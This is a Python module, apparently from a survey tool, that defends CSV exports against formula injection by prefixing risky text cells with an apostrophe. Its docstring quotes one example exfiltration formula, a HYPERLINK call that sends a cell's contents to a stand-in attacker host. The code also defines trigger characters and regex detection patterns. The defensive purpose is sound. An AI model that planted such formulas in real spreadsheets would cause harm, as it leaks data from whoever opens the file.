"""Cells a spreadsheet would run as a formula, made inert for CSV files (CSV/formula injection).

A respondent who types ``=HYPERLINK("http://evil.example?"&A1, "click")`` as a comment would see it
run on the analyst's machine when the export is opened in Excel or LibreOffice. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is followed: a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which spreadsheets
show as text and do not display; the CSV writer then quotes cells holding separators or quotes.

Only text is touched: a negative number in a numeric column stays a number (``-3.5`` is not a
formula to any spreadsheet, and the weight and numeric answers must read back as numbers). A polars
frame read from a CSV holds every column as text (`survey weight` copies them as read), so there a
cell that is itself a plain number (``-3.5``, ``+1``, ``-2e5``, ``-1,5``) counts as a number and is
left as it is.
"""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING, TypeGuard, cast, overload

if TYPE_CHECKING:  # `survey weight` neutralises polars frames without loading pandas
    import pandas as pd
    import polars as pl

__all__ = [
    "NEUTRALISED_NOTE",
    "TRIGGERS",
    "neutralise",
    "neutralise_frame",
    "neutralised_cells",
    "risky_columns",
]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
NEUTRALISED_NOTE = (
    "Text cells beginning with = + - @, a tab or a carriage return are written with a leading "
    "apostrophe (') so that spreadsheets show them as text instead of running them (OWASP, CSV "
    "injection); `survey export --raw` writes them as typed."
)
_TRIGGER_PATTERN = r"^[=+\-@\t\r]"
_NUMBER_PATTERN = r"^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$"


def neutralise(value: object) -> object:
    """The value a CSV cell should hold: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return PREFIX + value
    return value


def _is_pandas(frame: pd.DataFrame | pl.DataFrame) -> TypeGuard[pd.DataFrame]:
    """Whether ``frame`` is a pandas frame, without importing pandas when it is not loaded."""
    pandas = sys.modules.get("pandas")
    return pandas is not None and isinstance(frame, pandas.DataFrame)


def _is_text(column: pd.Series) -> bool:
    import pandas as pd  # noqa: PLC0415

    return column.dtype == object or pd.api.types.is_string_dtype(column.dtype)


@overload
def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame: ...
@overload
def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame: ...
def neutralise_frame(frame: pd.DataFrame | pl.DataFrame) -> pd.DataFrame | pl.DataFrame:
    """A copy with every text column neutralised; numeric and date columns are left as they are.

    A polars frame's text cells that are plain numbers are left too (see the module's docstring).
    """
    if _is_pandas(frame):
        safe = frame.copy()
        for name in safe.columns:
            if _is_text(safe[name]):
                safe[name] = safe[name].map(neutralise, na_action="ignore")
        return safe
    return _neutralise_polars(cast("pl.DataFrame", frame))[0]  # polars: pandas is not loaded for it


def neutralised_cells(frame: pl.DataFrame) -> tuple[pl.DataFrame, dict[str, int]]:
    """``neutralise_frame`` for a polars frame, with the number of cells changed per column."""
    return _neutralise_polars(frame)


def _neutralise_polars(frame: pl.DataFrame) -> tuple[pl.DataFrame, dict[str, int]]:
    """Text columns (String, Categorical, Enum) checked by vectorised patterns, all columns at once;
    a column without a risky cell is returned as it was (its dictionary encoding too)."""
    import polars as pl  # noqa: PLC0415

    text = [n for n, t in frame.schema.items() if t == pl.String or isinstance(t, pl.Categorical | pl.Enum)]
    if not text:
        return frame, {}
    # a dictionary column's values are checked once each; a plain text column row by row, but only
    # the cells that begin like a formula go through the number pattern
    counts = frame.select(
        (
            _risky_expr(pl.col(n).unique().cast(pl.String))
            if isinstance(frame.schema[n], pl.Categorical | pl.Enum)
            else _risky_expr(pl.col(n))
        ).alias(n)
        for n in text
    ).row(0, named=True)
    changed: dict[str, int] = {}
    replaced: list[pl.Series] = []
    for name in (n for n in text if counts[n]):
        column = frame.get_column(name).cast(pl.String)
        risky = _risky(column)
        changed[name] = int(risky.sum())
        replaced.append((PREFIX + column).zip_with(risky, column).alias(name))
    return (frame.with_columns(replaced) if replaced else frame), changed


def _risky_expr(text: pl.Expr) -> pl.Expr:
    """How many cells of ``text`` begin like a formula and are not plain numbers."""
    starts = text.filter(text.str.contains(_TRIGGER_PATTERN))
    return (~starts.str.contains(_NUMBER_PATTERN)).sum()


def _risky(text: pl.Series) -> pl.Series:
    """Cells beginning like a formula that are not plain numbers (False for a missing cell)."""
    return (text.str.contains(_TRIGGER_PATTERN) & ~text.str.contains(_NUMBER_PATTERN)).fill_null(False)


def risky_columns(frame: pd.DataFrame) -> dict[str, int]:
    """Text columns holding cells that begin like a formula, with how many (for the export's note)."""
    found: dict[str, int] = {}
    for name in frame.columns:
        if not _is_text(frame[name]):
            continue
        hits = int(frame[name].map(lambda v: isinstance(v, str) and v.startswith(TRIGGERS)).sum())
        if hits:
            found[str(name)] = hits
    return found
